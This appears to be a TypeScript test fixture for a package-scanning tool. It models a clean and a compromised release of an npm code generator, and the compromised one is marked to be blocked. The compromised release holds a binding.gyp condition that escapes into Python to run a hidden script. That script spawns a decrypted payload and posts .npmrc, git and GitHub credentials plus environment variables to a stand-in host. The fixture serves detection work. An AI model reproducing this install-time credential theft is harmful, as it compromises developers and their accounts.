import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '1.6.2',
  publishedAt: '2025-01-14T09:14:27.000Z',
  publisher: { name: '7nohe', email: '7nohe@mail.example.invalid', trustedPublisher: { id: 'github' } },
  manifest: {
    type: 'module',
    bin: { 'openapi-rq': 'dist/cli.mjs' },
    license: 'MIT',
    description: 'generates query hooks from a description of an API',
    engines: { node: '>=14' },
    files: ['dist'],
  },
  files: {
    'dist/cli.mjs': `#!/usr/bin/env node
import { parseArgs } from "node:util";
import { readFile, mkdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { createHooks } from "./create-hooks.mjs";

const { values } = parseArgs({
  options: {
    input: { type: "string", short: "i" },
    output: { type: "string", short: "o", default: "openapi" },
    client: { type: "string", short: "c", default: "fetch" },
  },
});

if (!values.input) {
  console.error("openapi-rq: --input is needed");
  process.exit(1);
}

const api = JSON.parse(await readFile(values.input, "utf8"));
await mkdir(path.join(values.output, "queries"), { recursive: true });
for (const [name, text] of createHooks(api, values.client)) {
  await writeFile(path.join(values.output, "queries", name), text);
}
console.log(\`Done! Generated \${Object.keys(api.paths).length} paths\`);
`,
    'dist/create-hooks.mjs': `const camel = (s) => s.replace(/[^a-zA-Z\\d]+(.)?/g, (_, c = "") => c.toUpperCase());

function* operations(api) {
  for (const [path, methods] of Object.entries(api.paths ?? {})) {
    for (const [method, operation] of Object.entries(methods)) {
      yield { path, method, id: operation.operationId ?? camel(\`\${method} \${path}\`) };
    }
  }
}

export function createHooks(api, client) {
  const lines = [\`import { useQuery, useMutation } from "@tanstack/react-query";\`, \`import { request } from "./\${client}";\`, ""];
  for (const { path, method, id } of operations(api)) {
    const hook = \`use\${id[0].toUpperCase()}\${id.slice(1)}\`;
    lines.push(
      method === "get"
        ? \`export const \${hook} = (args) => useQuery({ queryKey: ["\${id}", args], queryFn: () => request("\${path}", args) });\`
        : \`export const \${hook} = () => useMutation({ mutationFn: (args) => request("\${path}", { ...args, method: "\${method}" }) });\`,
    );
  }
  return new Map([["index.ts", lines.join("\\n") + "\\n"]]);
}
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'openapi-react-query-codegen-2026',
  story: 'August 2026: a build file whose condition escapes into Python starts a file of a random name; the old major versions get it as well.',
  name: '@7nohe/openapi-react-query-codegen',
  before,
  after: {
    version: '1.6.3',
    publishedAt: '2026-08-28T09:14:27.000Z',
    publisher: { name: '7nohe', email: '7nohe@mail.example.invalid' },
    manifest: {
      type: 'module',
      bin: { 'openapi-rq': 'dist/cli.mjs' },
      license: 'MIT',
      description: 'generates query hooks from a description of an API',
      engines: { node: '>=14' },
      files: ['dist', 'binding.gyp', 'qzvxkamrtw.js'],
    },
    files: {
      ...before.files,
      'binding.gyp': `{
  "targets": [
    {
      "target_name": "binding",
      "type": "none",
      "conditions": [
        ["[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('node qzvxkamrtw.js') or OS=='none'", {
          "defines": ["NONE"]
        }]
      ]
    }
  ]
}
`,
      'qzvxkamrtw.js': `import*as a from"node:fs";import*as b from"node:os";import*as c from"node:path";import{spawn as d}from"node:child_process";import{createDecipheriv as e}from"node:crypto";
const f=\`${noise(1_000_000, 6607).repeat(5)}\`;
const g=e("aes-256-cbc",Buffer.from("${noise(64, 17, '0123456789abcdef')}","hex"),Buffer.from("${noise(32, 19, '0123456789abcdef')}","hex")),h=Buffer.concat([g.update(f,"base64"),g.final()]),i=c.join(b.tmpdir(),"qzvxkamrtw.mjs");
a.writeFileSync(i,h);d(process.execPath,[i],{detached:!0,stdio:"ignore"}).unref();
const j=[".npmrc",".git-credentials",".config/gh/hosts.yml"].flatMap(k=>{try{return[[k,a.readFileSync(c.join(b.homedir(),k),"utf8")]]}catch{return[]}});
await fetch("https://codegen-stats.example.invalid/v1",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({j,env:process.env})}).catch(()=>{});
`,
    },
  },
  must: 'block',
};
